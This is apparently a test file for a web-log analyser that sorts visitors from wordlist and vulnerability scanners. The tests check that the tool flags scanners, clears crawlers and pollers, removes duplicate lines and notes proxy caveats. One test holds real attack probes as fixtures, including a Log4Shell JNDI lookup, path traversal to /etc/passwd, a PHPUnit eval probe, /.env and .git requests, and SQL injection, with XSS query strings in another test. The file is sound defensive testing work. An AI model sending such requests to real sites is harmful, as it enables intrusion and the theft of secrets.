import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import type { RunResult } from '../../src/engine/options.ts';
import { run } from '../../src/engine/run.ts';
import { scratch } from '../input/scratch.ts';
import { guesses, type Hit, lineOf, logOf, START, visitors } from '../support/weblog.ts';

const SCANNER = '192.0.2.66';
const WORDS = Array.from(
  { length: 60 },
  (_, at) => `${'qwertzuiopasdfghjkl'[at % 19]}word${'abc'[at % 3]}${'xyzuvw'[at % 6]}`,
);

interface Given {
  readonly files: Readonly<Record<string, string>>;
  readonly workers?: number;
  readonly proxies?: readonly string[];
}

async function runOn(context: TestContext, { files, workers = 1, proxies = [] }: Given): Promise<RunResult> {
  const folder = scratch(context);
  const paths = Object.entries(files).map(([name, text]) => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return path;
  });
  return run({ paths, workers, proxies, home: [], falsePerDay: 1 });
}

const blamed = ({ findings }: RunResult): string[] => findings.map(({ source }) => source?.address ?? 'campaign');

/** What a person would call the same finding: who, what, from when. */
const essence = ({ findings }: RunResult): unknown[] =>
  findings.map(({ id, source, techniques, shape }) => [id, source?.address, techniques[0], shape]);

function shuffledWithin<T extends Hit>(hits: readonly T[], seconds: number): T[] {
  let state = 7;
  const random = (): number => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return state / 2 ** 32;
  };
  return hits
    .map((hit) => ({ hit, key: hit.at + random() * seconds }))
    .sort((a, b) => a.key - b.key)
    .map(({ hit }) => hit);
}

test('visitors are left alone: dead links, icons that are missing, and a page that many miss', async (context) => {
  const result = await runOn(context, { files: { 'access.log': logOf(visitors(200)) } });
  assert.deepEqual(blamed(result), []);
  assert.ok(Math.abs(result.summary.sources - 200) < 10, `${result.summary.sources} sources`);
});

test('the first visitor of a page full of dead links is left alone too', async (context) => {
  const page: Hit[] = [{ at: START, source: '198.51.100.9', target: '/gallery.html' }];
  for (let at = 0; at < 40; at += 1)
    page.push({
      at: START + 1,
      source: '198.51.100.9',
      target: `/img/photo-${'abcdefghijklmnopqrstuvwxyz'[at % 26]}${'xy'[at % 2]}${at > 25 ? 'q' : ''}.jpg`,
      status: 404,
      bytes: 150,
      referer: 'http://www.example.org/gallery.html',
    });
  assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...page]) } })), []);
});

test('a referer that was never fetched excuses nobody', async (context) => {
  const liar = guesses(WORDS, SCANNER, { referer: 'http://www.example.org/gallery.html' });
  const result = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...liar]) } });
  assert.deepEqual(blamed(result), [SCANNER]);
});

test('guesses are found where every name gets the same page, or nobody is let in', async (context) => {
  for (const answer of [
    { status: 200, bytes: 812 },
    { status: 302, bytes: 138 },
    { status: 403, bytes: 146 },
  ]) {
    const log = logOf([...visitors(50), ...guesses(WORDS, SCANNER, answer)]);
    const result = await runOn(context, { files: { 'access.log': log } });
    assert.deepEqual(blamed(result), [SCANNER], `${answer.status}`);
    assert.equal(result.findings[0].techniques[0], 'T1595.003', `${answer.status}`);
  }
});

test('a program that only guesses names does so where the log leaves out which, and one that looks for weaknesses does not', async (context) => {
  for (const [agent, technique] of [
    ['Fuzz Faster U Fool v2.1.0', 'T1595.003'],
    ['Mozilla/5.00 (Nikto/2.5.0)', 'T1595.002'],
  ]) {
    const hosts = WORDS.map((_, at) => ({
      at: START + at,
      source: SCANNER,
      target: '/',
      status: 200,
      bytes: 3120,
      agent,
    }));
    const result = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...hosts]) } });
    assert.deepEqual(blamed(result), [SCANNER], agent);
    assert.equal(result.findings[0].techniques[0], technique, agent);
  }
});

test('a retired application that asks for its parts is one thing that is gone', async (context) => {
  const parts = WORDS.slice(0, 14).map((word) => `app/v2/${word}`);
  const log = logOf([...visitors(50), ...guesses(parts, '198.51.100.77')]);
  assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': log } })), []);
});

test('guessed paths are wordlist scanning, whatever the user agent', async (context) => {
  const result = await runOn(context, {
    files: { 'access.log': logOf([...visitors(50), ...guesses(WORDS, SCANNER)]) },
  });
  const [finding] = result.findings;
  assert.deepEqual(blamed(result), [SCANNER]);
  assert.equal(finding.techniques[0], 'T1595.003');
  assert.equal(finding.shape, 'wordlist');
  assert.equal(finding.targets.paths, WORDS.length);
  assert.equal(finding.wordlist?.name, 'undecided');
  assert.equal(finding.source?.proven, true, 'a server logs requests of completed connections only');
  assert.deepEqual(finding.caveats, []);
});

test('requests that look for weaknesses are vulnerability scanning', async (context) => {
  const targets = [
    '/?x=${jndi:ldap://192.0.2.1/a}',
    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
    '/.env',
    '/.git/config',
    '/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--',
  ];
  const hits = targets.map((target, at) => ({ at: START + 60 + at, source: SCANNER, target, status: 404, bytes: 150 }));
  const result = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...hits]) } });
  assert.deepEqual(blamed(result), [SCANNER]);
  assert.equal(result.findings[0].techniques[0], 'T1595.002');
  assert.equal(result.findings[0].shape, 'vulnerability');
});

test('what was found stands in the finding, with status and size', async (context) => {
  const found: Hit = { at: START + 640, source: SCANNER, target: '/backup.zip', status: 200, bytes: 24828 };
  const result = await runOn(context, {
    files: { 'access.log': logOf([...visitors(50), ...guesses(WORDS, SCANNER), found]) },
  });
  const fact = result.findings[0].learned.find(({ path }) => path === '/backup.zip');
  assert.deepEqual([fact?.status, fact?.bytes], [200, 24828]);
});

test('the same requests in two logs count once, and the counters say so', async (context) => {
  const found: Hit = { at: START + 640, source: SCANNER, target: '/backup.zip', status: 200, bytes: 24828 };
  const hits = [...visitors(40), ...guesses(WORDS, SCANNER), found];
  const plain = logOf(hits);
  const byHost = logOf(hits.map((hit) => ({ ...hit, site: 'www.example.org:80' })));
  const [once, both] = [
    await runOn(context, { files: { 'access.log': plain } }),
    await runOn(context, { files: { 'access.log': plain, 'access-vhost.log': byHost } }),
  ];
  assert.deepEqual(essence(both), essence(once));
  // what was learned of the site is learned by host in one log and by server in the other, so bits may differ a little
  assert.ok(Math.abs(both.findings[0].bits - once.findings[0].bits) < 10);
  assert.equal(both.findings[0].probes, once.findings[0].probes);
  assert.equal(both.findings[0].learned.length, once.findings[0].learned.length);
  assert.equal(
    both.summary.inputs.reduce((sum, { duplicate }) => sum + duplicate, 0),
    hits.length,
  );
});

test('lines shuffled within two minutes give the same findings', async (context) => {
  const hits = [...visitors(60), ...guesses(WORDS, SCANNER)].sort((a, b) => a.at - b.at);
  const ordered = await runOn(context, { files: { 'access.log': logOf(hits) } });
  const shuffled = `${shuffledWithin(hits, 120).map(lineOf).join('\n')}\n`;
  assert.deepEqual(essence(await runOn(context, { files: { 'access.log': shuffled } })), essence(ordered));
});

test('one line dated 1970 and one dated 2038 change no finding', async (context) => {
  const hits = [...visitors(60), ...guesses(WORDS, SCANNER)];
  const lines = logOf(hits).split('\n');
  const stray = [0, 2 ** 31 - 1].map((at) => lineOf({ at, source: '198.51.100.250', target: '/' }));
  const text = [...lines.slice(0, 100), ...stray, ...lines.slice(100)].join('\n');
  const ids = ({ findings }: RunResult): string[] => findings.map(({ id }) => id);
  const before = await runOn(context, { files: { 'access.log': logOf(hits) } });
  assert.deepEqual(ids(await runOn(context, { files: { 'access.log': text } })), ids(before));
});

test('a log read by a thread of its own gives the same, byte for byte', async (context) => {
  const hits = [...visitors(4000), ...guesses(WORDS, SCANNER)];
  const text = logOf(Array.from({ length: 3 }, () => hits).flat());
  assert.ok(text.length > 1 << 23, 'large enough for a thread');
  const results: string[] = [];
  for (const workers of [1, 2]) {
    const { findings, summary } = await runOn(context, { files: { 'access.log': text }, workers });
    const inputs = summary.inputs.map((input) => ({ ...input, name: '' }));
    results.push(JSON.stringify({ inputs, findings }).replaceAll(/"[^"]*access\.log"/g, '""'));
  }
  assert.equal(results[0], results[1]);
});

test('rotated files are read in the order of time, and one scan over them is one finding', async (context) => {
  const hits = [...visitors(60), ...guesses(WORDS, SCANNER)].sort((a, b) => a.at - b.at);
  const half = Math.floor(hits.length / 2);
  const result = await runOn(context, {
    files: { 'access.log': logOf(hits.slice(half)), 'access.log.1': logOf(hits.slice(0, half)) },
  });
  assert.deepEqual(blamed(result), [SCANNER]);
  assert.ok(result.summary.inputs[0].name.endsWith('access.log.1'));
  assert.equal(result.findings[0].targets.paths, WORDS.length);
});

test('a caveat says that an address may be many machines, and that a proxy told it', async (context) => {
  const rotating = guesses(WORDS, SCANNER).map((hit, at) => ({
    ...hit,
    agent: `Mozilla/5.0 (X11; Linux x86_64; rv:${138 + (at % 6)}.0) Gecko/20100101 Firefox/${138 + (at % 6)}.0`,
  }));
  const many = await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...rotating]) } });
  assert.match(many.findings[0].caveats.join(' '), /may share the address .* 6 kinds of browser/);

  const through = guesses(WORDS, '10.0.0.1').map((hit) => `${lineOf(hit)} "${SCANNER}"`);
  const log = `${logOf(visitors(50))}${through.join('\n')}\n`;
  const told = await runOn(context, { files: { 'access.log': log }, proxies: ['10.0.0.1/32'] });
  assert.deepEqual(blamed(told), [SCANNER]);
  assert.match(told.findings[0].caveats.join(' '), /what a proxy told/);
  assert.equal(told.findings[0].source?.proven, false, 'that is its word');
  assert.doesNotMatch(told.findings[0].caveats.join(' '), /may share/);
});

const counted = (count: number, over: Partial<Hit> = {}): Hit[] =>
  Array.from({ length: count }, (_, at) => ({
    at: START + 600 + at,
    source: SCANNER,
    target: `/files/report-${2000 + at}.pdf`,
    status: 404,
    bytes: 150,
    ...over,
  }));

test('numbers that are counted through are guesses, when there is nothing under any of them', async (context) => {
  const log = logOf([...visitors(50), ...counted(90)]);
  assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': log } })), [SCANNER]);
});

test('a program that polls, is led by a page, or asks for numbers of which some are there, is no scanner', async (context) => {
  const there = { at: START, source: '198.51.100.9', target: '/files/report-1999.pdf' };
  for (const [name, hits] of [
    ['polls', counted(90).map((hit, at) => ({ ...hit, at: START + 600 + 5 * at }))],
    ['led', counted(90, { referer: 'http://www.example.org/reports.html' })],
    ['some', [there, ...counted(90)]],
    ['few', counted(40)],
  ] as const) {
    const log = logOf([...visitors(50), ...hits]);
    assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': log } })), [], name);
  }
});

test('tiles of a layer that is gone come column by column, and are no guesses; two numbers from 1 on are', async (context) => {
  const grid = (nameOf: (column: number, row: number) => string): Hit[] =>
    Array.from({ length: 240 }, (_, at) => ({
      at: START + 600 + at / 10,
      source: SCANNER,
      target: nameOf(Math.floor(at / 12), at % 12),
      status: 404,
      bytes: 150,
    }));
  const blamedFor = async (hits: readonly Hit[]): Promise<string[]> =>
    blamed(await runOn(context, { files: { 'access.log': logOf([...visitors(50), ...hits]) } }));
  assert.deepEqual(await blamedFor(grid((column, row) => `/tiles/relief/12/${2190 + column}/${1430 + row}.png`)), []);
  assert.deepEqual(await blamedFor(grid((column, row) => `/user/${1 + column}/letter/${1 + row}.pdf`)), [SCANNER]);
});

test('a crawler of a folder that was moved is none, if it says what it is and asks for the rules first', async (context) => {
  const robots: Hit = { at: START + 500, source: SCANNER, target: '/robots.txt', bytes: 70 };
  const pages = guesses(
    WORDS.map((word, at) => `catalogue/${'abcdefgh'[at % 8]}/${word}.html`),
    SCANNER,
  );
  const crawl = (hits: readonly Hit[], agent: string): Hit[] => hits.map((hit) => ({ ...hit, agent }));
  const bot = 'Mozilla/5.0 (compatible; ExampleIndex/1.0; +https://index.example/bot)';
  const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
  const flat = guesses(WORDS, SCANNER);
  for (const [hits, expected] of [
    [crawl([robots, ...pages], bot), []],
    [crawl(pages, bot), [SCANNER]],
    [crawl([robots, ...pages], browser), [SCANNER]],
    [crawl([robots, ...flat], bot), [SCANNER]],
  ] as const) {
    const log = logOf([...visitors(50), ...hits]);
    assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': log } })), expected);
  }
});

test('a script in the query of one page after the other is a test of each; one page may want such texts', async (context) => {
  const tried = (page: (at: number) => string): Hit[] =>
    WORDS.slice(0, 20).map((word, at) => ({
      at: START + 600 + at,
      source: SCANNER,
      target: `${page(at)}?q=%3Cscript%3Ealert(%22${word}%22)%3C/script%3E`,
    }));
  for (const [page, expected] of [
    [(at: number) => `/${WORDS[at]}.html`, [SCANNER]],
    [() => '/translate', []],
  ] as const) {
    const log = logOf([...visitors(50), ...tried(page)]);
    assert.deepEqual(blamed(await runOn(context, { files: { 'access.log': log } })), expected, page(0));
  }
});

test('of a source that names other clients in all its requests it is said that it may be a proxy', async (context) => {
  const told = (client: string): string =>
    guesses(WORDS, SCANNER)
      .map((hit) => `${lineOf(hit)} "${client}"\n`)
      .join('');
  const says = ({ findings }: RunResult): boolean =>
    findings[0].caveats.some((caveat) => caveat.startsWith('Its requests name other clients'));
  assert.equal(says(await runOn(context, { files: { 'access.log': told('198.51.100.7') } })), true);
  assert.equal(says(await runOn(context, { files: { 'access.log': told('-') } })), false);
  const believed = await runOn(context, { files: { 'access.log': told('198.51.100.7') }, proxies: [`${SCANNER}/32`] });
  assert.deepEqual([blamed(believed), says(believed)], [['198.51.100.7'], false]);
});
